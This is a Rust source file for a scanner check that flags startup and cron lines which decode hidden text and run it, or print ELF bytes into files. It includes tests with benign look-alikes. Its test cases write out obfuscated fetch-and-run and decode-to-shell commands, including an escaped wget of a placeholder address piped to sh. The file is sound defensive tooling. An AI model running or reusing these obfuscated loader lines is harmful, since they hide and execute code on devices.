//! A startup line that runs encoded text, or prints a program into a file.
//!
//! # Sees
//! Text that base64, `openssl … -d`, `xxd -r`, uudecode, rev, or echo and printf with letters written as numbers
//! decode, and that goes to a shell (a pipe, `sh -c "$(…)"`, `eval`, `. <(…)`, a variable), or into a file that the
//! same or a later line of the same startup file runs. Python and the like that are told to decode text and to run it.
//! Bytes that echo or printf write into a file and that begin as a program does.
//!
//! # Why it matters
//! Whoever writes a startup file for others to read has no reason to hide what it runs. Loaders of Mirai and its kin
//! print their program byte by byte where a device has neither wget nor tftp; miners hide their lines in base64.
//!
//! # Misses and false alarms
//! `suspicious` where the line is a text: in quotes that span lines, or in a here-document that is printed. Silent for
//! keys, certificates, settings and images that are decoded into files or into programs other than shells, for colours
//! and control characters, for the rules of binfmt_misc. Missed are decoders of somebody's own (tr, sed, awk), packed
//! scripts (`gunzip | sh`), and files that another startup file runs.
//!
//! # Sources
//! base64(1), openssl-enc(1), xxd(1), uudecode(1posix), printf(1posix); elf(5); MITRE ATT&CK T1140.

use crate::check::{Advice, Area, Check, Ctx, Hook, Out, Severity, Source};
use crate::facts::decode::{decode, is_decoding_code, writes_program};
use crate::facts::fetch::Product;
use crate::facts::memory::Origin;
use crate::facts::runs::takes_text;
use crate::facts::startup::{Kind, Line};

/// The row of the table.
pub const CHECK: Check = Check {
    id: "startup-encoded",
    area: Area::Startup,
    severity: Severity::Infected,
    attack: "T1140",
    title: "a startup line that runs encoded text, or prints a program into a file",
    advice: Advice::PLANTED,
    sources: &[Source::Startup],
    hooks: &[Hook::Line(run)],
};

fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
    let commands = line.commands;
    let any = |says: &dyn Fn(u16) -> bool| commands.iter().any(|(index, _)| says(index));
    let decodes = |index: u16| decode(commands, index) == Some(Product::Output);
    let mut draft = out.line(line);
    if line.kind == Kind::Text {
        draft = draft.severity(Severity::Suspicious).say("in quotes or a text that is printed: ");
    }
    draft = if any(&|index| takes_text(commands, index, &decodes) || is_decoding_code(commands, index)) {
        draft.say("runs text that is decoded in: ")
    } else if any(&|index| writes_program(commands, index)) {
        draft.say("prints a program into a file: ")
    } else if let Some(run) = line.joined.runs.filter(|run| run.what.origin == Origin::Decoded) {
        draft.say("runs what line ").number(run.what.line).say(" decoded: ")
    } else {
        return;
    };
    out.found(draft.quote(line.text));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::testing::startup;

    #[test]
    fn decoded_and_run() {
        for text in [
            &b"echo aGk= | base64 -d | sh"[..],
            b"eval \"$(echo aGk= | base64 -d)\"",
            b"eval `base64 -d /etc/x`",
            b"sh -c \"$(openssl enc -d -aes-128-cbc -k x -in /etc/y)\"",
            b"$(echo aGk= | busybox base64 -d)",
            b". <(xxd -r -p /etc/x)",
            b"sh <<< $(base64 -d /etc/x)",
            b"bash -c 'echo aGk= | base64 -d | bash -i'",
            b"base64 -d <<E | gunzip | sh",
            b"X=$(echo aGk= | base64 -d); eval \"$X\"",
            b"X=$(echo aGk= | base64 -d); echo \"$X\" | sh",
            br"echo -e '\x77\x67\x65\x74 -O- http://192.0.2.1/x|sh' | sh",
            br#"printf "\167\147\145\164" | sh"#,
            br"$(printf '\x77get' ) http://192.0.2.1",
            b"base64 -d /etc/x > /tmp/y; chmod +x /tmp/y; /tmp/y &",
            b"openssl enc -d -in /etc/x -out /usr/y; chmod 755 /usr/y && /usr/y",
            b"uudecode -o /usr/y /etc/x; sh /usr/y",
            br"echo -ne '\x7f\x45\x4c\x46\x01\x01' >> /tmp/x",
            br"printf '\x7f\x45\x4c\x46' > /usr/x",
            br"echo -en '\177ELF\01' | busybox tee x",
            b"python3 -c 'import base64;exec(base64.b64decode(\"aGk=\"))'",
            b"echo hs | rev | sh",
        ] {
            assert_eq!(
                startup(&CHECK, Kind::Shell, text),
                [(1, Severity::Infected)],
                "{}",
                String::from_utf8_lossy(text)
            );
        }
        let lines = b"F=/etc/x\nbase64 -d <<E >$F\naGk=\nE\n\nsh $F\n";
        assert_eq!(startup(&CHECK, Kind::Shell, lines), [(6, Severity::Infected)]);
        let cron = b"* * * * * echo aGk= | base64 -d | sh";
        assert_eq!(startup(&CHECK, Kind::Cron, cron), [(1, Severity::Infected)]);
        let quoted = b"x='\necho aGk= | base64 -d | sh\n'\n";
        assert_eq!(startup(&CHECK, Kind::Shell, quoted), [(2, Severity::Suspicious)]);
    }

    #[test]
    fn decoded_as_data() {
        for text in [
            &b"base64 -d /etc/x > /etc/ssl/x.pem"[..],
            b"openssl enc -d -aes-256-cbc -in /etc/x -out /etc/y.conf; . /etc/z",
            b"echo \"$KEY\" | base64 -d | wg setconf wg0 /dev/stdin",
            b"wget -qO- http://192.0.2.1/list | base64 -d | awk '{print}' > /tmp/list",
            br"printf '\033[1;32m%s\033[0m\n' ok",
            br"echo -e '\n'",
            br"printf 'set x=\047y\047\n' | sh",
            br#"[ "$(head -c 4 $F)" = "$(printf '\177ELF')" ] && echo program"#,
            br"echo ':arm:M::\x7fELF\x01\x01:\xff\xff:/usr/bin/qemu-arm:' > /proc/sys/fs/binfmt_misc/register",
            b"eval $(echo $X | base64 -d | jsonfilter -e 'A=@.a')",
            b"base64 -d /etc/x | sh /usr/lib/y/import.sh",
            br"printf '\x41\x42' > /sys/class/leds/x; echo -ne '\x01' > /dev/ttyS1",
            b"IP=$(echo $X | base64 -d); ping $IP",
            b"echo x | base64 | sh",
            b"eval \"echo $X | base64 -d\"",
            b"sh -c 'base64 -d /etc/x'",
            br#"case "$(dd if=$F bs=2 count=1)" in "$(printf '\102\132')") bunzip2 -c $F ;; esac"#,
            b"python3 -c 'import base64;print(base64.b64decode(\"aGk=\"))'",
        ] {
            assert_eq!(startup(&CHECK, Kind::Shell, text), [], "{}", String::from_utf8_lossy(text));
        }
    }
}
